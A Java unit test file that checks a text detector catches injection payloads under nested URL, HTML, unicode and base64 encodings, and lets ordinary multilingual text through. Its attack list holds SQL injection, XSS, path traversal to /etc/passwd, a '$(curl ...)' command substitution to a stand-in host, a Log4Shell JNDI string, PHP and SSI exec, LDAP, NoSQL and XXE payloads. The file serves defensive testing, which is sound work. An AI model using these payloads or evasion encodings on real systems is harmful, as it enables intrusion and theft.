package org.pbxguard.core.text.catalog;

import static org.assertj.core.api.Assertions.assertThat;

import com.code_intelligence.jazzer.api.FuzzedDataProvider;
import com.code_intelligence.jazzer.junit.FuzzTest;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.SplittableRandom;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.pbxguard.core.text.Probe;
import org.pbxguard.core.text.Rule;
import org.pbxguard.core.text.TextInspector;
import org.pbxguard.core.text.TextSettings;

class StandardDetectorsTest {
  private static final TextInspector INSPECTOR =
      StandardDetectors.inspector(TextSettings.defaults());

  private static final List<String> ATTACKS =
      List.of(
          "7' or '7'='7",
          "7 union select 1,2,3 from users",
          "x'; drop table calls; --",
          "<script>f(7)</script>",
          "<img src=q onerror=f(7)>",
          "../../../../etc/passwd",
          ";cat /etc/passwd",
          "$(curl http://h.example/x)",
          "${jndi:ldap://h.example/x}",
          "{{7*'7'}}",
          "<?php system('id'); ?>",
          "<!--#exec cmd=\"id\"-->",
          "*)(uid=*))(|(uid=*",
          "{\"$ne\": null}",
          "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///x\">]>");

  private static final List<String> WORDS =
      List.of(
          "Select",
          "a",
          "plan",
          "from",
          "the",
          "list",
          "and",
          "or",
          "union",
          "drop",
          "table",
          "where",
          "order",
          "O'Brien",
          "d'accord",
          "l'heure",
          "don't",
          "Gr\u00fc\u00dfe",
          "aus",
          "M\u00fcnchen",
          "f\u00fcr",
          "und",
          "dzie\u0144",
          "dobry",
          "p\u0159\u00edli\u0161",
          "k\u016f\u0148",
          "\u043f\u0440\u0438\u0432\u0435\u0442",
          "\u043c\u0438\u0440",
          "ma\u00f1ana",
          "se\u00f1or",
          "perch\u00e9",
          "citt\u00e0",
          "\u00e7a",
          "d\u00e9j\u00e0",
          "100",
          "2024-05-01",
          "10:30",
          "50%",
          "(optional)",
          "\"quoted\"",
          "+49-30-1234567",
          "sip:100@pbx.example",
          "user@example.com",
          "https://example.com/x?y=z",
          "R&D",
          "A/B",
          "cat",
          "find",
          "time",
          "id",
          "echo",
          "-",
          ",",
          "C#",
          "#4711",
          "*97",
          "${EXTEN}",
          "$5",
          "if",
          "then",
          "else",
          "case",
          "insert",
          "update",
          "delete",
          "set");

  private final Probe probe = Probe.of(INSPECTOR);

  @Test
  void all_rules_haveUniqueIdsInLowerCase() {
    assertThat(INSPECTOR.rules())
        .extracting(Rule::id)
        .doesNotHaveDuplicates()
        .allMatch(id -> id.matches("[a-z0-9-]+"));
  }

  @Test
  void inspect_attackUnderRandomNesting_staysCaught() {
    SplittableRandom random = new SplittableRandom(11);
    for (String attack : ATTACKS) {
      for (int round = 0; round < 40; round++) {
        String text = attack;
        int layers = random.nextInt(4);
        int whole = random.nextInt(4);
        for (int layer = 0; layer < layers; layer++) {
          // The case of base64 has a meaning.
          text =
              layer == whole && text.length() > 11
                  ? base64(text)
                  : encode(text, random, layer < whole);
        }
        assertThat(probe.points(text))
            .as(attack + " as " + text)
            .isGreaterThanOrEqualTo(Probe.REFUSED);
      }
    }
  }

  private static String base64(String text) {
    return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
  }

  @Test
  void inspect_statementWithRandomCaseBlanksAndComments_staysCaught() {
    SplittableRandom random = new SplittableRandom(13);
    String[] blanks = {" ", "\t", "\n", "/**/", "/*x*/", "  ", "\u00a0", "/*!*/"};
    for (String attack : ATTACKS.subList(0, 3)) {
      for (int round = 0; round < 100; round++) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < attack.length(); i++) {
          char c = attack.charAt(i);
          boolean upper = random.nextBoolean();
          text.append(
              c == ' '
                  ? blanks[random.nextInt(blanks.length)]
                  : upper ? "" + Character.toUpperCase(c) : "" + c);
        }
        assertThat(probe.points(text.toString()))
            .as(text.toString())
            .isGreaterThanOrEqualTo(Probe.REFUSED);
      }
    }
  }

  private static String encode(String text, SplittableRandom random, boolean fold) {
    int kind = random.nextInt(5);
    boolean all = random.nextBoolean();
    StringBuilder out = new StringBuilder();
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      if (all || !Character.isLetterOrDigit(c)) {
        out.append(escape(kind, c));
      } else {
        out.append(fold && random.nextBoolean() && kind == 4 ? Character.toUpperCase(c) : c);
      }
    }
    return out.toString();
  }

  private static String escape(int kind, char c) {
    return switch (kind) {
      case 0 -> String.format("%%%02x", (int) c);
      case 1 -> String.format("%%u%04X", (int) c);
      case 2 -> String.format("&#%d;", (int) c);
      case 3 -> String.format("\\u%04x", (int) c);
      default -> String.format("&#x%X;", (int) c);
    };
  }

  @Test
  void inspect_attackInBase64_staysCaught() {
    for (String attack : ATTACKS) {
      String text = Base64.getEncoder().encodeToString(attack.getBytes(StandardCharsets.UTF_8));
      if (text.length() >= 16) {
        assertThat(probe.points(text)).as(attack).isGreaterThanOrEqualTo(Probe.REFUSED);
      }
    }
  }

  @Test
  void inspect_randomSentences_letThrough() {
    SplittableRandom random = new SplittableRandom(5);
    int refused = 0;
    for (int round = 0; round < 4000; round++) {
      StringBuilder text = new StringBuilder();
      int words = 1 + random.nextInt(14);
      for (int i = 0; i < words; i++) {
        text.append(i == 0 ? "" : " ").append(WORDS.get(random.nextInt(WORDS.size())));
      }
      refused += probe.points(text.toString()) >= Probe.REFUSED ? 1 : 0;
    }
    // Words thrown together at random may read as SQL now and then.
    assertThat(refused).isLessThan(14);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "The quick brown fox jumps over the lazy dog; then it rests.",
        "Bitte w\u00e4hlen Sie einen Tarif aus der Liste, oder rufen Sie an: 030/123456.",
        "L'h\u00f4tel de ville n'est pas ouvert aujourd'hui, ou l'est-il?",
        "El se\u00f1or pregunt\u00f3: \u00bfd\u00f3nde est\u00e1 la estaci\u00f3n? (y por qu\u00e9)",
        "Dell'anno scorso non c'\u00e8 pi\u00f9 traccia; e l'altro?",
        "P\u0159\u00edli\u0161 \u017elu\u0165ou\u010dk\u00fd k\u016f\u0148 \u00fap\u011bl \u010f\u00e1belsk\u00e9 \u00f3dy -- a dost.",
        "Za\u017c\u00f3\u0142\u0107 g\u0119\u015bl\u0105 ja\u017a\u0144: \"dobry dzie\u0144\" & do widzenia",
        "\u0421\u044a\u0435\u0448\u044c \u0436\u0435 \u0435\u0449\u0451 \u044d\u0442\u0438\u0445 \u0431\u0443\u043b\u043e\u043a",
        "Hi, after the update I get: ERROR 1064 (42000) near 'from' at line 1. What now?",
        "We use SELECT for reading and UPDATE for writing; the table is called calls.",
        "My code: if (x > 5 && y == \"a\") { foo(); } does nothing.",
        "Try `ls` or `cat file`, then send me the output please, thank you",
        "exten => _9NXXXXXX,1,Dial(SIP/${EXTEN:1}@provider,60,tTr)",
        "same => n,GotoIf($[\"${DIALSTATUS}\" = \"BUSY\"]?busy:unavail)",
        "<condition field=\"destination_number\" expression=\"^(10[01][0-9])$\"><action application=\"bridge\" data=\"user/$1@${domain_name}\"/></condition>",
        "sip:alice@atlanta.example.com;transport=tcp?subject=project%20x",
        "\"Bob O'Neil\" <sip:bob@example.com>;tag=1928301774",
        "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.POstGetfAytaZS82wHcjoTyoqhMyxXiWdR7Nn7A29DN",
        "iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAAHElEQVQI12P4",
        "SGVsbG8sIHRoaXMgaXMgYW4gb3JkaW5hcnkgc2VudGVuY2U=",
        "+1 (555) 010-9999 ext. 12",
        "C:\\Users\\alice\\Documents\\report.docx",
        "/var/spool/asterisk/voicemail/default/100/INBOX",
        "musiconhold=default,application=/usr/bin/mpg123 -q -s",
        "50% off; only today & tomorrow!",
        "AC/DC, Guns N' Roses and Rage Against the Machine",
        "Drop Table Ltd",
        "Null Islands' 1st union of workers",
      })
  void inspect_ordinaryTexts_letThrough(String text) {
    assertThat(probe.points(text)).as(probe.rules(text).toString()).isLessThan(Probe.REFUSED);
  }

  @FuzzTest(maxDuration = "2m")
  void inspect_anyText_noDetectorFails(FuzzedDataProvider data) {
    String text = data.consumeRemainingAsString();

    assertThat(probe.rules(text)).doesNotContain("text-detector-fault");
  }
}
